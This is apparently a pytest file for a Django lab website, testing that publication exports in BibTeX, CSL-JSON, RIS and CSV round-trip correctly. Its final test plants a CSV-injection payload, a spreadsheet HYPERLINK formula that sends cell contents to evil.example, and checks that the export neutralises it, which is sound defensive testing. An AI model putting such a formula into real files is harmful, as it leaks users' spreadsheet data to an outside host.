"""BibTeX, CSL-JSON, RIS and CSV exports: what goes out comes back the same."""

import json

import bibtexparser
import pytest
from bibtexparser.middlewares import LatexDecodingMiddleware, SeparateCoAuthors
from django.urls import reverse

from importer.parsers.bibtex import parse_bibtex
from people.generate import generate_lab
from publications.formats.csl import joined_name, split_name
from publications.models import Publication
from tests.factories import make_person, make_publication, make_venue

from .exports_helpers import (
    SPECIAL_AUTHORS,
    SPECIAL_TITLE,
    expected,
    make_special_publication,
    public_publications,
    read_csv,
    read_ris,
    ris_name,
)


@pytest.fixture
def lab(db):
    """A generated lab, one hidden publication, and one publication full of special characters."""
    persons, _count, _users = generate_lab(people=8, publications=30, seed=5)
    hidden = Publication.objects.order_by("pk").first()
    hidden.is_public = False
    hidden.save()
    make_special_publication(persons[1])
    return persons


def download(client, url, params=None):
    response = client.get(url, params or {})
    assert response.status_code == 200, url
    return response


# --- what a download looks like ----------------------------------------------------------------


@pytest.mark.parametrize(
    "fmt, content_type",
    [
        ("bib", "application/x-bibtex"),
        ("json", "application/vnd.citationstyles.csl+json"),
        ("ris", "application/x-research-info-systems"),
        ("csv", "text/csv"),
    ],
)
def test_list_exports_are_downloads_with_their_content_type_and_a_file_name(client, lab, fmt, content_type):
    for response in (download(client, "/publications/", {"format": fmt}), download(client, f"/publications.{fmt}")):
        assert response["Content-Type"].startswith(content_type)
        assert "charset=utf-8" in response["Content-Type"]
        assert response["Content-Disposition"] == f'attachment; filename="publications.{fmt}"'


@pytest.mark.parametrize("fmt", ["bib", "json", "ris"])
def test_one_publication_has_stable_export_addresses(client, lab, fmt):
    publication = Publication.objects.public().exclude(key="nunez2024braces").first()
    url = reverse("publications:publication-export", args=[publication.key, fmt])
    assert url == f"/publications/{publication.key}.{fmt}"
    response = download(client, url)
    assert response["Content-Disposition"] == f'attachment; filename="{publication.key}.{fmt}"'
    assert publication.title in response.getvalue().decode()


def test_hidden_publications_are_not_exported_one_by_one_or_in_lists(client, lab):
    hidden = Publication.objects.get(is_public=False)
    assert client.get(f"/publications/{hidden.key}.bib").status_code == 404
    for fmt in ("bib", "json", "ris", "csv"):
        assert hidden.title not in download(client, f"/publications.{fmt}").getvalue().decode()


def test_an_unknown_format_is_not_found(client, lab):
    assert client.get("/publications/", {"format": "docx"}).status_code == 404
    assert client.get("/publications.docx").status_code == 404


# --- round trips ---------------------------------------------------------------------------------


def test_bibtex_export_parses_back_with_the_same_publications(client, lab):
    text = download(client, "/publications.bib").getvalue().decode()
    stored = expected(public_publications())
    parsed = parse_bibtex(text, "publications.bib")
    assert not [w for w in parsed.warnings if "malformed" in w or "duplicate" in w]
    assert len(parsed.publications) == len(stored)
    for publication in parsed.publications:
        title, authors, equal, venue, year = stored[publication.key]
        assert publication.title == title
        assert [a.name for a in publication.authors] == authors
        assert [a.equal_contribution for a in publication.authors] == equal
        assert publication.year == year
        assert publication.venue_text.startswith(venue)


def test_bibtex_export_is_read_by_bibtexparser_with_the_same_fields(client, lab):
    text = download(client, "/publications.bib").getvalue().decode()
    library = bibtexparser.parse_string(text, append_middleware=[LatexDecodingMiddleware(), SeparateCoAuthors()])
    assert not library.failed_blocks
    stored = expected(public_publications())
    keys = [entry.key for entry in library.entries]
    assert sorted(keys) == sorted(stored) and len(set(keys)) == len(keys)
    for entry in library.entries:
        title, authors, _equal, venue, year = stored[entry.key]
        assert entry["title"].strip("{}") == title
        assert entry["author"] == authors
        assert int(entry["year"]) == year
        assert (entry.get("booktitle") or entry.get("journal") or entry.get("howpublished")).value == venue


def test_equal_contribution_is_marked_in_a_way_bibtex_tools_keep(client, lab):
    text = download(client, "/publications/nunez2024braces.bib").getvalue().decode()
    entry = bibtexparser.parse_string(text).entries[0]
    assert entry["author+an"] == "1=equal; 2=equal"
    assert "Equal contribution" in entry["note"]


def test_special_characters_survive_bibtex(client, lab):
    text = download(client, "/publications/nunez2024braces.bib").getvalue().decode()
    assert r"100\%" in text and r"\&" in text and r"\{x\}" in text  # escaped for LaTeX
    publication = parse_bibtex(text, "one.bib").publications[0]
    person = lab[1]
    assert publication.title == SPECIAL_TITLE
    assert [a.name for a in publication.authors] == [person.name, *SPECIAL_AUTHORS]
    assert publication.venue_text.startswith("Systems & Data {Workshop} 100%")
    assert publication.note.startswith("Best Paper & 50% off")
    assert " ".join(publication.abstract.split()) == "We study {things} at 100% & more. Two lines."


def test_csl_json_export_parses_back_with_the_same_publications(client, lab):
    items = json.loads(download(client, "/publications.json").getvalue())
    stored = expected(public_publications())
    assert sorted(item["id"] for item in items) == sorted(stored)
    for item in items:
        title, authors, equal, venue, year = stored[item["id"]]
        assert item["title"] == title
        assert [joined_name(name) for name in item["author"]] == authors
        assert item["issued"]["date-parts"] == [[year]]
        assert item["container-title"] == venue
        positions = [i for i, flag in enumerate(equal, 1) if flag]
        assert item.get("custom", {}).get("equal-contribution", []) == positions


def test_special_characters_survive_csl_json(client, lab):
    item = json.loads(download(client, "/publications/nunez2024braces.json").getvalue())[0]
    assert item["title"] == SPECIAL_TITLE
    assert [joined_name(n) for n in item["author"]][1:] == SPECIAL_AUTHORS
    assert {"literal": "赵汉宇"} in item["author"]
    assert {"given": "Ludwig", "family": "van Beethoven"} in item["author"]
    assert item["type"] == "paper-conference"
    assert "Equal contribution" in item["note"]


def test_ris_export_parses_back_with_the_same_publications(client, lab):
    records = read_ris(download(client, "/publications.ris").getvalue().decode())
    stored = expected(public_publications())
    assert sorted(r["ID"][0] for r in records) == sorted(stored)
    for record in records:
        title, authors, _equal, venue, year = stored[record["ID"][0]]
        assert record["TI"] == [title]
        assert [ris_name(a) for a in record["AU"]] == authors
        assert record["PY"] == [str(year)]
        assert (record.get("T2") or record.get("JO")) == [venue]


def test_special_characters_survive_ris(client, lab):
    record = read_ris(download(client, "/publications/nunez2024braces.ris").getvalue().decode())[0]
    assert record["TI"] == [SPECIAL_TITLE]
    assert [ris_name(a) for a in record["AU"]][1:] == SPECIAL_AUTHORS
    assert record["AB"] == ["We study {things} at 100% & more. Two lines."]  # one line per field
    assert any("Equal contribution" in note for note in record["N1"])


def test_csv_export_parses_back_with_the_same_publications(client, lab):
    rows = read_csv(download(client, "/publications/", {"format": "csv"}).getvalue().decode())
    stored = expected(public_publications())
    assert sorted(row["key"] for row in rows) == sorted(stored)
    for row in rows:
        title, authors, equal, venue, year = stored[row["key"]]
        assert row["title"] == title
        assert row["authors"].split("; ") == authors
        assert row["equal contribution"] == "; ".join(a for a, e in zip(authors, equal, strict=True) if e)
        assert row["venue"] == venue
        assert row["year"] == str(year)
    special = next(row for row in rows if row["key"] == "nunez2024braces")
    assert special["title"] == SPECIAL_TITLE


# --- lists keep their filters ----------------------------------------------------------------------


def test_a_filtered_list_exports_only_its_matches(client, lab):
    year = Publication.objects.public().values_list("year", flat=True).first()
    keys = {
        r["key"]
        for r in read_csv(download(client, "/publications/", {"year": year, "format": "csv"}).getvalue().decode())
    }
    assert keys == set(Publication.objects.public().filter(year=year).values_list("key", flat=True))
    items = json.loads(download(client, "/publications.json", {"year": year}).getvalue())
    assert {i["id"] for i in items} == keys


def test_a_members_publications_export(client, lab):
    person = lab[1]
    response = download(client, f"/people/{person.slug}/publications.bib")
    assert response["Content-Disposition"] == f'attachment; filename="{person.slug}-publications.bib"'
    parsed = parse_bibtex(response.getvalue().decode(), "member.bib")
    assert {p.key for p in parsed.publications} == set(
        Publication.objects.public().by_member(person).values_list("key", flat=True)
    )
    via_filter = read_csv(
        download(client, "/publications/", {"member": person.slug, "format": "csv"}).getvalue().decode()
    )
    assert {r["key"] for r in via_filter} == {p.key for p in parsed.publications}


def test_a_venues_export(client, lab):
    response = download(client, "/venues/osdi.ris")
    assert response["Content-Disposition"] == 'attachment; filename="venue-osdi-publications.ris"'
    body = response.getvalue()
    ids = {r["ID"][0] for r in read_ris(body.decode())}
    assert ids == set(Publication.objects.public().filter(venue__slug="osdi").values_list("key", flat=True))
    assert client.get("/venues/osdi/", {"format": "ris"}).getvalue() == body


def test_hidden_members_have_no_export(client, db):
    person = make_person("Hidden Person", is_public=False)
    make_publication(person)
    assert client.get(f"/people/{person.slug}/publications.bib").status_code == 404


def test_bibtex_keys_are_the_stored_keys_so_they_stay_stable_as_the_list_grows(client, db):
    venue = make_venue()
    make_publication(title="One", key="abara2024one", venue=venue, authors=["Ada Abara"])
    first = [
        e.key for e in bibtexparser.parse_string(download(client, "/publications.bib").getvalue().decode()).entries
    ]
    make_publication(title="One", key="abara2024onea", venue=venue, authors=["Ada Abara"], year=2024)
    second = [
        e.key for e in bibtexparser.parse_string(download(client, "/publications.bib").getvalue().decode()).entries
    ]
    assert first == ["abara2024one"]
    assert sorted(second) == ["abara2024one", "abara2024onea"]


# --- names ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, csl",
    [
        ("Ada Lovelace", {"given": "Ada", "family": "Lovelace"}),
        ("Ludwig van Beethoven", {"given": "Ludwig", "family": "van Beethoven"}),
        ("Hye-jin Østergaard", {"given": "Hye-jin", "family": "Østergaard"}),
        ("赵汉宇", {"literal": "赵汉宇"}),
        ("Plato", {"literal": "Plato"}),
        ("Ada Abara 37", {"literal": "Ada Abara 37"}),
    ],
)
def test_names_split_for_csl_and_join_back(name, csl):
    assert split_name(name) == csl
    assert joined_name(split_name(name)) == name


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, db):
    venue = make_venue("=CMD", "@SUM(A1:A9)")
    make_publication(
        title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        authors=["+1 Attacker", "-2 Other", "@Third"],
        venue=venue,
        note="\t=1+1",
        key="formula-paper",
        doi="10.1/plain",
    )
    import csv
    import io

    text = client.get("/publications/", {"format": "csv"}).getvalue().decode()
    rows = list(csv.DictReader(io.StringIO(text)))

    (row,) = rows
    for column in ("title", "authors", "venue", "venue acronym", "note"):
        assert row[column][0] not in "=+-@\t\r", (column, row[column])
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'  # the text is kept, shown as text
    assert row["doi"] == "10.1/plain" and row["key"] == "formula-paper"
